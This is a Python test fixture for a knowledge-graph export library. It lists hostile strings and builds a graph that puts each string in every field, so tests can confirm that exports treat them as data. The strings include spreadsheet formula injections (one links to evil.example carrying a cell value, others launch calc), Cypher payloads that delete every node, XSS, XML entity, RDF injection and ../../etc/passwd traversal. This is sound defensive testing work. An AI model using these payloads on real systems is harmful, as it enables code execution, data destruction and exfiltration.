"""The shared hostile strings for the injection tests, and a graph that carries them.

Article text is untrusted: any of these can arrive as a name, a quote, a relation or a
headline, and every one must come out of every export format as data, never as markup,
code, a formula or a second statement. Each string targets one way a format breaks; the
graph puts every string in every string field a format carries (labels, aliases, roles,
ids and the IRIs minted from them, issue literals, relation texts, sentences, titles,
URLs), so one test per format checks them all.
"""

from __future__ import annotations

from kg.export import GraphData
from kg.ids import entity_id
from kg.model import Document, Entity, EntityRef, Statement

# What each string attacks. Every one is plausible in scraped news text.
HOSTILE_STRINGS: dict[str, str] = {
    # Quotes of every kind, and escapes that a naive writer passes through.
    "quotes": 'O\'Neill said "no" and \'\'\' """ `tick` “curly” ‘single’',
    "backslashes": "C:\\new\\table \\u0041 \\\" \\' \\n ends with a backslash \\",
    "line breaks": "line one\nline two\r\nline three\rtab\there",
    "separators": "para\u2028graph\u2029end \x85 next-line",
    # Spreadsheet formulas: a cell that starts with = + - @ (or a tab) is evaluated.
    "formula =": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "formula +": "+1+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "csv delimiters": 'a,b;c|d^e~f "g",h',
    # Cypher: leave the string, end the statement, comment out the rest.
    "cypher string": '"}) MATCH (n) DETACH DELETE n //',
    "cypher statement": "x'; MATCH (n) DETACH DELETE n; // rest;",
    "cypher identifier": "`) DETACH DELETE n //`",
    # XML: markup, entities, CDATA ends, processing instructions.
    "xml": '<!DOCTYPE x [<!ENTITY e "boom">]>&e; &amp; ]]> <?xml-stylesheet href="x"?>',
    # HTML: close the data script, run script through handlers and URLs.
    "script tag": "<script>window.__pwned = 'tag'; alert(1)</script>",
    "script": "</script><script>window.__pwned = 'script'</script>",
    "script case": "</SCRIPT ><script>window.__pwned = 'case'</script>",
    "img": "<img src=x onerror=\"window.__pwned = 'img'\">",
    "svg": "<svg/onload=\"window.__pwned = 'svg'\">",
    "iframe": '"><iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
    # An HTML comment opener, and the page template's own placeholders.
    "comment": "<!-- <script> --> __DATA__ __SCRIPTS__ __CSP__",
    "javascript url": "javascript:window.__pwned='url'",
    # RDF: close the literal or IRI and add a triple of one's own.
    "rdf literal": '" . <http://evil.example/s> <http://evil.example/p> "o',
    "rdf iri": "> <http://evil.example/p> <http://evil.example/o> . <x",
    "rdf long literal": '""" ; kg:evil true . """',
    "json": '{"@id": "http://evil.example/", "@context": null}',
    # IRI-minting trouble: path segments, query, fragment, percent, spaces.
    "iri parts": "../../etc/passwd?x=1#frag %41%2F space",
    # Unicode: astral, combining, bidi override, zero-width, BOM, CJK.
    "unicode": "🙂 e\u0301 \u202eevil\u202c zero\u200bwidth \ufeffbom 中文 العربية",
}

# The strings, for parametrising and for "every one round-trips" checks.
STRINGS: tuple[str, ...] = tuple(HOSTILE_STRINGS.values())
# The payloads that try to run script on the graph page: they set `window.__pwned`.
SCRIPT_PAYLOADS: tuple[str, ...] = tuple(
    text for text in STRINGS if "__pwned" in text and not text.startswith("javascript:")
)


def hostile_entity(number: int, label: str) -> Entity:
    """An entity named by a hostile string, its id minted from it as the pipeline does."""
    return Entity(
        entity_id("person" if number % 2 else "organization", label),
        label,
        "person" if number % 2 else "organization",
        (label, f"alias {number}: {label}"),
        number + 1,
        (f"role {number}: {label}",),
    )


def hostile_graph() -> GraphData:
    """Every hostile string in every string field: one entity, statement, document each.

    Statement n links entity n to entity n+1 (a stance edge) and, for every other one,
    to an issue literal; document n has the string as its id, headline and URL.
    """
    entities = tuple(hostile_entity(n, text) for n, text in enumerate(STRINGS))
    documents = []
    statements = []
    for number, text in enumerate(STRINGS):
        sentence = f"{entities[number].label} rejected {text} on day {number}."
        doc_text = f"Intro. {sentence}"
        doc_id = f"doc {number} {text}"
        documents.append(
            Document(doc_id, doc_text, title=f"Headline {text}", url=text, published="2020-01-01")
        )
        target = (
            entities[(number + 1) % len(entities)].ref()
            if number % 2
            else EntityRef(None, f"issue {number}: {text}")
        )
        statements.append(
            Statement(
                id=f"st-{number}-{text}",
                doc_id=doc_id,
                sentence_index=1,
                char_start=7,
                char_end=len(doc_text) - 1,
                sentence=sentence,
                subject=entities[number].ref(),
                relation=f"reject {text}",
                relation_text=f"rejected {text}",
                object=target,
                stance="REJECT",
                polarity=-1,
                negated=False,
                modality="asserted",
                attributed_to=entities[number].ref(),
                confidence=0.5,
                rule="clause:svo",
                cue=text,
                about=(entities[number].ref(),),
            )
        )
    return GraphData(tuple(documents), entities, tuple(statements))
